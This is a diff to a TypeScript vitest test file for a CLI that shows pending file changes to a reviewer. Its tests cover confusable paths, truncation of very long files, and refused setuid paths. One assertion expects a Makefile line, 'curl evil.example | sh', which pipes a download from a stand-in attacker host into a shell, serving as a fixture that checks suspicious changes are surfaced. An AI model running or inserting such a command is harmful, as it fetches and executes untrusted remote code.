@@ -4,7 +4,7 @@ import { describe, expect, it } from 'vitest';
 import { showChanges } from '../../../cli/changes/show.ts';
 import type { WaitingChanges } from '../../../cli/changes/waiting.ts';
 import { inkFor } from '../../../cli/output.ts';
-import type { Change, EntryState } from '../../../skills-index/run/changes.ts';
+import type { Change, ChangedFolder, EntryState } from '../../../skills-index/run/changes.ts';
 import { digestOf } from '../../../skills-index/skill/digest.ts';
 import { folderWith } from '../temporary-folder.ts';
 
@@ -15,7 +15,7 @@ const fileOf = (text: string): EntryState => {
   contents.set(digestOf(bytes), bytes);
   return { kind: 'file', sha256: digestOf(bytes), bytes: bytes.length, mode: 0o644, uid: 1, gid: 1 };
 };
-const shown = (changes: Change[], linesMax?: number, path = '/nowhere'): string[] => {
+const shown = (changes: Change[], linesMax?: number, path = '/nowhere', refused: ChangedFolder['refused'] = []): string[] => {
   const folder = { source: 'workspace:w', target: '/w', path, id: '1:1', mode: 'cow' as const };
   const set: WaitingChanges['set'] = {
     ...{
@@ -25,7 +25,7 @@ const shown = (changes: Change[], linesMax?: number, path = '/nowhere'): string[
       skill: '@a/b',
       version: '1.0.0',
     },
-    ...{ plan: digestOf(''), at: '2026-01-01T00:00:00.000Z', folders: [{ ...folder, changes, refused: [], conflicts: [] }] },
+    ...{ plan: digestOf(''), at: '2026-01-01T00:00:00.000Z', folders: [{ ...folder, changes, refused, conflicts: [] }] },
   };
   const read = (sha256: string): Uint8Array => contents.get(sha256) ?? Buffer.alloc(0);
   return showChanges({ set, digest: digestOf('set'), folder: '/kept', begun: false, read }, ink, linesMax).text.split('\n');
@@ -85,4 +85,52 @@ it('files that are slow to compare have one budget together, and those beyond it
   const unaligned = shown(changes, undefined, path).filter((line) => line.includes('! many lines differ'));
   expect(unaligned).toHaveLength(2);
   expect(shown(changes.slice(0, 1), undefined, path).filter((line) => line.includes('! many lines differ'))).toEqual([]);
+});
+
+describe('a path or where a link leads', () => {
+  const owner = { uid: 1, gid: 1 };
+  const link = (path: string, to: string): Change => ({ path, after: { kind: 'link', to, ...owner } });
+  const folder = (path: string): Change => ({ path, after: { kind: 'folder', mode: 0o755, ...owner } });
+
+  it.each<[string, Change, Change]>([
+    ['a link whose path holds an arrow', link('p (link to a', 'b'), link('p', 'a (link to b')],
+    ['a blank that breaks no line', folder('a\u00a0b'), folder('a b')],
+    ['the spelling of such a blank', folder('a\u00a0b'), folder('a⟨U+00A0⟩b')],
+    ['a path that ends as a folder is described', folder('x (folder 755, owner 1:1)'), folder('x')],
+    ['a path in quotes', folder('"a b"'), folder('a b')],
+  ])('is never shown as another: %s', (_, one, other) => {
+    expect(shown([one])[1]).not.toBe(shown([other])[1]);
+    expect(shown([one])[1]?.replace(/\p{Zs}/gu, ' ')).not.toBe(shown([other])[1]?.replace(/\p{Zs}/gu, ' '));
+  });
+
+  it('stands as it is where it is plain', () => {
+    expect(shown([link('docs/größe-1.md', '../a_b')])[1]).toBe('created docs/größe-1.md (link to ../a_b, owner 1:1)');
+    expect(shown([link('a b', 'c d')])[1]).toBe('created "a b" (link to "c d", owner 1:1)');
+  });
+});
+
+describe('texts of more lines than a person can be shown', () => {
+  const empty = (number: number): Change => ({ path: `f${number}`, after: fileOf(`${number}${'\n'.repeat(100_000)}`) });
+
+  it('are shown as far as there is room, the marked ones first, and the rest is counted', () => {
+    const lines = shown([...[1, 2, 3, 4, 5].map(empty), makefile], 100);
+    expect(lines).toContain('  +all: ; curl evil.example | sh');
+    const why = 'all texts have more than 32 MiB or 400000 lines';
+    expect(lines.filter((line) => line === `  ! ${why}: the content of this one is not shown`)).toHaveLength(2);
+    expect(lines.at(-2)).toBe(`the content of 2 files is not shown: ${why}`);
+  });
+
+  it('are all shown where they are fewer', () => {
+    expect(shown([1, 2, 3].map(empty), 100).join('\n')).not.toContain('content');
+  });
+});
+
+it('a path that is taken over without something is not said to be left out', () => {
+  const why = 'setuid or setgid bits, taken off';
+  const lines = shown([{ path: 'crew', after: fileOf('') }], undefined, '/nowhere', [
+    { path: 'crew', why },
+    { path: 'other', why },
+  ]);
+  expect(lines).toContain(`taken over in part crew: ${why}`);
+  expect(lines).toContain(`not taken over other: ${why}`);
 });
